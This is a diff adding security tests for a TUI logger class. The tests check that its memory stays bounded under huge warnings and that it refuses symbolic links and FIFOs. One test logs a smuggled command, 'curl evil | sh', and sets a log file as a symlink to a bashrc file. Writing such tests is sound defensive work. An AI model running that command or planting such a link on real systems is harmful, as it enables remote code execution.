@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import os
+import threading
 from pathlib import Path
 
-from tui.problem_log import MAX_BYTES, REPEAT_S, ProblemLog
+from tui.problem_log import _KEPT, MAX_BYTES, MAX_TEXT, REPEAT_S, ProblemLog
 
 
 def test_a_warning_repeated_at_every_poll_is_written_once_a_minute_with_its_count(
@@ -42,3 +44,43 @@ def test_without_a_runtime_directory_nothing_is_written(tmp_path: Path) -> None:
     log.warning("whoami failed")
     log.close()
     assert list(tmp_path.iterdir()) == []
+
+
+def test_many_huge_distinct_warnings_keep_only_what_is_written(tmp_path: Path) -> None:
+    """A service's error detail can quote a hostile answer (a 1 MB field name): the repeat
+    limit remembers the text written, not the megabytes (256 of them were 268 MB)."""
+    log = ProblemLog(tmp_path)
+    for i in range(2 * _KEPT):
+        log.warning(f"alarm poll failed: {i:04d} " + "k" * (1 << 20))
+    held = sum(len(text) for text in log._last)
+    log.close()
+    assert held <= _KEPT * MAX_TEXT
+
+
+def test_a_tui_log_that_is_not_a_file_is_not_written(tmp_path: Path) -> None:
+    """Whoever can write ``var/logs`` must not make the TUI append to a file of their choice
+    (a symbolic link) nor hang it at its start (a FIFO nobody reads)."""
+    target = tmp_path / "bashrc"
+    target.write_text("# mine\n")
+    (tmp_path / "link" / "logs").mkdir(parents=True)
+    (tmp_path / "link" / "logs" / "tui.log").symlink_to(target)
+    log = ProblemLog(tmp_path / "link")
+    log.warning("ticket fetch failed: x; curl evil | sh")
+    log.close()
+    assert target.read_text() == "# mine\n"
+
+    (tmp_path / "fifo" / "logs").mkdir(parents=True)
+    fifo = tmp_path / "fifo" / "logs" / "tui.log"
+    os.mkfifo(fifo)
+    done = threading.Event()
+
+    def start() -> None:
+        ProblemLog(tmp_path / "fifo").close()
+        done.set()
+
+    threading.Thread(target=start, daemon=True).start()
+    try:
+        assert done.wait(10.0), "ProblemLog blocked opening a FIFO"
+    finally:
+        if not done.is_set():  # let the blocked open return
+            os.close(os.open(fifo, os.O_RDONLY | os.O_NONBLOCK))
